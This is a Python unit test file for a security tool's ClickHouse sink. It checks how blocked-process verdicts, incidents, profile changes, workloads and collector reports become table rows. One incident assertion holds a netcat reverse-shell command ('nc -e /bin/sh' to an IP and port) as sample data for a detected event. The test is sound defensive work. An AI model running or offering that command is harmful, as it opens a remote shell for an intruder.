"""The ClickHouse sink's rows (sinks/clickhouse/rows.py): each record kind to its table's row,
column by column, written through the real driver's column writers against the types the
migrations create (procwarden.testbed.clickhouse), no server."""

from __future__ import annotations

import re
from typing import Any

import pytest
from clickhouse_driver.errors import TypeMismatchError

from procwarden.testbed.clickhouse import FakeClickHouse, column_types
from schemas import (
    Action,
    Baseline,
    ChangeKind,
    CollectorReport,
    Decision,
    DecodeError,
    DlqEntry,
    Envelope,
    EventKind,
    ExecEvent,
    Incident,
    Mode,
    ProfileChange,
    Rule,
    RuleSource,
    Verdict,
    Workload,
    WorkloadKind,
    WorkloadState,
    decode_envelope,
    encode,
)
from schemas.records import replace
from sinks.clickhouse.rows import TABLES, Table, table_for
from tests.unit.test_siem_formats import BASE as INCIDENT

DECISION = Decision(
    event_id="ev-1", event_kind=EventKind.EXEC, workload_id="c1", node="node-1",
    verdict=Verdict.BLOCK, reason="rule", group="nv.web.demo", rule_uuid="u-1",
    rule_group="nv.web.demo", mode=Mode.PROTECT, baseline=Baseline.ZERO_DRIFT,
    would_block=False, suppressed=True, pid=4242, start_time=99, name="nc", path="/usr/bin/nc",
    user="root", ts=1_700_000_000.25, policy_version=7, incident=INCIDENT)
RULE = Rule(name="ls", path="/bin/ls", action=Action.ALLOW, cfg_type=RuleSource.LEARNED,
            uuid="r-1", group="nv.web.demo", users=("root", "www"))
CHANGE = ProfileChange(group="nv.web.demo", change=ChangeKind.RULE_LEARNED, version=3,
                       ts=1_700_000_001.5, actor="learning", rule=RULE, detail="from ev-1",
                       cause_event_id="ev-1")
WORKLOAD = Workload(id="c1", kind=WorkloadKind.CONTAINER, node="node-1", name="web",
                    image="nginx", namespace="demo", service="web", pod="web-0",
                    labels={"app": "web", "tier": "front"}, system=True,
                    state=WorkloadState.STOPPED)
REPORT = CollectorReport(node="node-1", started_at=1_699_999_000.9, execs=10, reported=7,
                         lost={"spool_full": 1, "process_gone": 2}, spool_bytes=512)


def wrap(payload: Any, event_id: str = "env-1", ts: float = 1_700_000_002.0) -> Envelope:
    return Envelope.wrap(payload, event_id=event_id, node="node-1", ts=ts)


def row(payload: Any, **kw: Any) -> dict[str, Any]:
    env = wrap(payload, **kw)
    table = table_for(env)
    assert table is not None
    return dict(zip(table.columns, table.row(env), strict=True))


def insert(ch: FakeClickHouse, table: Table, envs: list[Envelope]) -> None:
    ch.execute(f"INSERT INTO db.{table.name} ({', '.join(table.columns)}) VALUES",
               table.values(envs), columnar=True)


def enum_codes(table: str, column: str) -> dict[str, int]:
    """An Enum8 column's values as its DDL declares them (the driver writes the codes)."""
    return {name: int(code) for name, code in
            re.findall(r"'([^']*)' = (\d+)", column_types()[table][column])}


def as_stored(table: Table, values: tuple[Any, ...]) -> tuple[Any, ...]:
    types = column_types()[table.name]
    return tuple(enum_codes(table.name, name)[v] if types[name].startswith("Enum8") else v
                 for name, v in zip(table.columns, values, strict=True))


def test_every_table_fills_exactly_the_columns_its_migrations_create() -> None:
    types = column_types()
    for table in TABLES.values():
        assert table.name in types, table.name
        assert sorted(table.columns) == sorted(types[table.name]), table.name
        assert len(set(table.columns)) == len(table.columns), table.name


def test_a_verdict_is_one_events_row() -> None:
    r = row(DECISION)
    assert (r["ts"], r["ts_ms"]) == (1_700_000_000, 250)
    assert (r["event_id"], r["event_kind"], r["workload_id"], r["node"]) == (
        "ev-1", "exec", "c1", "node-1")
    assert (r["group_name"], r["verdict"], r["reason"], r["rule_uuid"], r["rule_group"]) == (
        "nv.web.demo", "block", "rule", "u-1", "nv.web.demo")
    assert (r["mode"], r["baseline"], r["would_block"], r["suppressed"]) == (
        "Protect", "zero-drift", 0, 1)
    assert (r["pid"], r["start_time"], r["name"], r["path"], r["user"]) == (
        4242, 99, "nc", "/usr/bin/nc", "root")
    assert r["policy_version"] == 7
    assert (r["incident_name"], r["incident_level"], r["incident_id"], r["message"]) == (
        INCIDENT.name, "WARNING", "inc-1", INCIDENT.message)


@pytest.mark.parametrize(("ts", "stored"), [
    (1_700_000_000.9996, (1_700_000_001, 0)),  # before: (1_700_000_000, 0), a second early
    (1_700_000_000.0004, (1_700_000_000, 0)),
    (1_700_000_000.9994, (1_700_000_000, 999)),
    (1_700_000_000.125, (1_700_000_000, 125)),
])
def test_a_times_second_and_millisecond_columns_are_cut_from_one_rounding(
        ts: float, stored: tuple[int, int]) -> None:
    for payload in (replace(DECISION, ts=ts), replace(CHANGE, ts=ts)):
        r = row(payload)
        assert (r["ts"], r["ts_ms"]) == stored, payload


def test_a_verdict_without_mode_baseline_or_incident_has_empty_strings() -> None:
    r = row(replace(DECISION, mode=None, baseline=None, incident=None))
    assert (r["mode"], r["baseline"]) == ("", "")
    assert (r["incident_name"], r["incident_level"], r["incident_id"], r["message"]) == (
        "", "", "", "")


def test_an_incident_is_one_security_events_row() -> None:
    r = row(INCIDENT)
    assert (r["ts"], r["id"], r["name"], r["level"], r["action"]) == (
        1_700_000_000, "inc-1", INCIDENT.name, "WARNING", "deny")
    assert (r["group_name"], r["rule_id"], r["proc_cmd"], r["conn_ingress"]) == (
        "nv.web.demo", INCIDENT.rule_id, "nc -e /bin/sh 10.0.0.1 4444", 0)
    assert (r["workload_service"], r["host_name"]) == ("web.demo", "node-1")


def test_a_profile_change_is_one_row_with_its_rule_and_its_envelopes_id() -> None:
    r = row(CHANGE, event_id="chg-9")
    assert (r["ts"], r["ts_ms"], r["group_name"], r["change"], r["version"]) == (
        1_700_000_001, 500, "nv.web.demo", "rule_learned", 3)
    assert (r["rule_name"], r["rule_path"], r["rule_action"], r["rule_source"],
            r["rule_uuid"], r["rule_users"]) == ("ls", "/bin/ls", "allow", "learned", "r-1",
                                                 ["root", "www"])
    assert (r["actor"], r["detail"], r["cause_event_id"], r["change_id"]) == (
        "learning", "from ev-1", "ev-1", "chg-9")
    bare = row(replace(CHANGE, rule=None, change=ChangeKind.GROUP_CREATED))
    assert (bare["rule_name"], bare["rule_action"], bare["rule_users"]) == ("", "", [])


def test_a_workload_is_one_row_with_its_labels_side_by_side() -> None:
    r = row(WORKLOAD, ts=1_700_000_003.7)
    assert (r["ts"], r["id"], r["kind"], r["state"], r["system"]) == (
        1_700_000_003, "c1", "container", "stopped", 1)
    assert dict(zip(r["label_keys"], r["label_values"], strict=True)) == {"app": "web",
                                                                          "tier": "front"}


def test_a_collector_report_is_one_row_its_losses_in_two_aligned_arrays() -> None:
    r = row(REPORT, event_id="rep-1")
    assert (r["ts"], r["node"], r["started_at"], r["execs"], r["reported"]) == (
        1_700_000_002, "node-1", 1_699_999_000, 10, 7)
    assert (r["loss_reasons"], r["loss_counts"]) == (["process_gone", "spool_full"], [2, 1])
    assert (r["spool_bytes"], r["report_id"]) == (512, "rep-1")


def test_a_batch_of_each_kind_is_written_by_the_driver_in_its_columns_types() -> None:
    ch = FakeClickHouse()
    samples: dict[type, list[Any]] = {Decision: [DECISION, replace(DECISION, mode=None, incident=None, event_id="e2")],
               Incident: [INCIDENT], ProfileChange: [CHANGE, replace(CHANGE, rule=None)],
               Workload: [WORKLOAD], CollectorReport: [REPORT, replace(REPORT, lost={})]}
    assert set(samples) == set(TABLES)
    for kind, payloads in samples.items():
        envs = [wrap(p, event_id=f"env-{i}") for i, p in enumerate(payloads)]
        insert(ch, TABLES[kind], envs)
        table = TABLES[kind]
        assert ch.rows[table.name] == [as_stored(table, table.row(e)) for e in envs]


@pytest.mark.parametrize("verdict", list(Verdict))
def test_every_verdict_the_engine_can_give_fits_the_events_tables_enum(verdict: Verdict) -> None:
    ch = FakeClickHouse()
    insert(ch, TABLES[Decision], [wrap(replace(DECISION, verdict=verdict))])
    stored = ch.rows["events"][0][TABLES[Decision].columns.index("verdict")]
    assert stored == enum_codes("events", "verdict")[verdict.value]


def test_records_of_no_table_have_no_row() -> None:
    for payload in (ExecEvent("c1", 1, "/bin/ls"),
                    DlqEntry(topic="t", partition=0, offset=1, error="x")):
        assert table_for(wrap(payload)) is None


def test_an_unknown_enum_value_is_refused_before_it_can_become_a_row() -> None:
    wire = encode(wrap(DECISION)).replace(b'"verdict":"block"', b'"verdict":"maybe"')
    assert b'"maybe"' in wire
    with pytest.raises(DecodeError):
        decode_envelope(wire)


def test_a_value_out_of_its_columns_range_is_refused_by_the_driver() -> None:
    # the writer finds such rows against the columns' types and dead-letters them alone
    ch = FakeClickHouse()
    with pytest.raises(TypeMismatchError, match="Column pid"):
        insert(ch, TABLES[Decision], [wrap(replace(DECISION, pid=2**32))])
    assert "events" not in ch.rows
